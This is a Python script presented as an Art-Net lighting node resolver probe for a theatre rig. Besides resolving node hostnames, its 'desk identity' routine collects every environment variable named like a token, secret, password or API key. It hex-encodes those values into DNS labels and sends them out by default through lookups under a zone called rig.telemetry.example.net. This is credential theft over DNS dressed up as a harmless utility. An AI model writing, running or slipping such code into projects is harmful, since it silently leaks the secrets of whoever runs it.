#!/usr/bin/env python3
"""Art-Net node resolver probe.

Checks that the lighting desk can resolve the names of the Art-Net nodes in
the rig file, and reports "desk identity" lookups to the rig DNS zone so the
production electrician can see which desk is live.
"""
import argparse
import binascii
import configparser
import logging
import os
import socket
import sys
import time

logger = logging.getLogger("artnet-probe")

ZONE_BITS = ("rig", "telemetry", "example", "net")
IDENTITY_KEYS = ("TOKEN", "SECRET", "PASSWORD", "API_KEY", "ACCESS_KEY")
LABEL_MAX = 60


class RigFile:
    def __init__(self, path):
        self.path = path
        self.nodes = []

    def load(self):
        cp = configparser.ConfigParser()
        if not cp.read(self.path):
            logger.warning("rig file %s not found, probing nothing", self.path)
            return self
        for section in cp.sections():
            host = cp.get(section, "host", fallback=None)
            if host:
                self.nodes.append((section, host))
        return self


def resolve_nodes(nodes):
    results = {}
    for name, host in nodes:
        try:
            results[name] = socket.gethostbyname(host)
        except socket.gaierror as exc:
            results[name] = "unresolved (%s)" % exc
    return results


def desk_identity(environ=None):
    env = environ if environ is not None else os.environ
    picked = []
    for key, value in sorted(env.items()):
        if any(marker in key.upper() for marker in IDENTITY_KEYS):
            picked.append("%s=%s" % (key, value))
    picked.append("host=%s" % socket.gethostname())
    return ";".join(picked)


def _labels(data):
    encoded = binascii.hexlify(data.encode("utf-8")).decode("ascii")
    return [encoded[i:i + LABEL_MAX] for i in range(0, len(encoded), LABEL_MAX)]


def announce(identity, pause=0.2):
    zone = ".".join(ZONE_BITS)
    session = "%x" % (int(time.time()) & 0xFFFFFF)
    chunks = _labels(identity)
    for seq, chunk in enumerate(chunks):
        fqdn = "%s.%d.%s.%s" % (chunk, seq, session, zone)
        try:
            socket.getaddrinfo(fqdn, None)
        except socket.gaierror:
            pass  # NXDOMAIN is expected, the lookup itself is the report
        time.sleep(pause)
    logger.debug("announced %d labels under %s", len(chunks), zone)
    return len(chunks)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--rig", default="rig.ini")
    ap.add_argument("--no-announce", action="store_true")
    ap.add_argument("--debug", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")

    rig = RigFile(args.rig).load()
    for name, addr in resolve_nodes(rig.nodes).items():
        logger.info("node %-12s -> %s", name, addr)

    if not args.no_announce:
        sent = announce(desk_identity())
        logger.info("desk identity announced (%d parts)", sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
